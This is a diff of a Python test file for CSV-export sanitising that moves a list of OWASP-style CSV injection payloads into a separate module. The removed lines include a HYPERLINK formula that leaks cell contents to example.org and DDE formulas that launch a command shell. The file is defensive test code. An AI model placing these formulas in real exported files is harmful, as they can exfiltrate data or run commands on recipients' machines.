@@ -2,41 +2,14 @@
 is read back as it was. The attacks are those of OWASP's page on CSV injection."""
 
 import csv
-import io
-import itertools
 import random
 import re
 from pathlib import Path
 
 import pytest
+from csv_attacks import ATTACKS, LOCALES, RUN, first_signs
 
 from mpilab.util.files import bare_cell, csv_text, read_rows, safe_cell
-
-RUN = "=+-@＝＋－＠"
-ATTACKS = [
-    *(f"{sign}1+1" for sign in RUN),
-    *(f"{before}={RUN}" for before in (" ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", "\x00")),
-    *("\tplain", "\rplain", "\nplain"),
-    *(f"anna{separator}=1+1" for separator in (",", ";", "\t", "|", "\r", "\n")),
-    *(";=1+1", "；=1+1", ";;=1", '";=1+1', ';"=1+1', ';" =1+1;"', 'x"=1+1', "';=1", ";'=1", "'=1"),
-    '=1+2";=1+2',
-    "=1+2'\" ;,=1+2",
-    '=HYPERLINK("http://example.org/?leak="&A1&A2,"click")',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=cmd|' /C calc'!A0",
-    "DDE;\n=cmd|'/C calc'!'A1'",
-    "a text\n\n- with a list\n- of two; +1",
-]
-LOCALES = [*itertools.product(",;\t|", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE))]
-
-
-def first_signs(text, separator, quoting):
-    """The first sign of each cell that a spreadsheet sees which does not trust our quotes."""
-    lines = io.StringIO(text, newline="") if quoting != csv.QUOTE_NONE else text.splitlines()
-    for row in csv.reader(lines, delimiter=separator, quoting=quoting):
-        for cell in row:
-            if not re.fullmatch(r"[+-]?\d+", cell):
-                yield cell.strip(' "\x00\u00a0\ufeff')[:1]
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
